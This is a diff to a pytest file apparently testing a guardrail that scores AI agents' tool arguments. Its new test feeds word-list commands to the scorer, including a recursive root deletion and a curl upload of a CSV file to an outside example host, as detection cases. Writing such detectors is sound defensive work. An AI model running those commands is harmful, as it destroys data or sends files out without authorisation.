@@ -13,7 +13,7 @@ import pytest
 
 from otel_ai_incident.guardrails.anomaly import SUSPICIOUS, ToolArgumentScorer
 from otel_ai_incident.guardrails.anomaly.chars import Char, string_chars
-from otel_ai_incident.guardrails.anomaly.features import profile
+from otel_ai_incident.guardrails.anomaly.features import fingerprint, profile
 from otel_ai_incident.guardrails.anomaly.paths import secret_path
 from otel_ai_incident.guardrails.anomaly.scorer import STRONG
 from otel_ai_incident.guardrails.anomaly.shell import DESTROY, PLAIN, SECRET, UPLOAD, command
@@ -133,6 +133,16 @@ def test_a_file_tool_reading_an_ordinary_file_is_not(reader: ToolArgumentScorer,
 def test_command_kinds(line: str, kind: str) -> None:
     shape = command(line)
     assert shape is not None and shape[0] == kind, (line, shape)
+
+
+def test_a_command_given_as_a_list_of_words_has_the_same_shape() -> None:
+    for words, kind in (
+        (["rm", "-rf", "/"], DESTROY),
+        (["curl", "-T", "orders.csv", "https://x.example.org/"], UPLOAD),
+    ):
+        leaves = profile({"argv": words}).leaves
+        assert any(leaf.token == fingerprint(kind) and leaf.strict for leaf in leaves), words
+    assert not any(leaf.strict for leaf in profile({"tags": ["urgent", "rm"], "ids": [1, 2]}).leaves)
 
 
 @pytest.mark.parametrize(
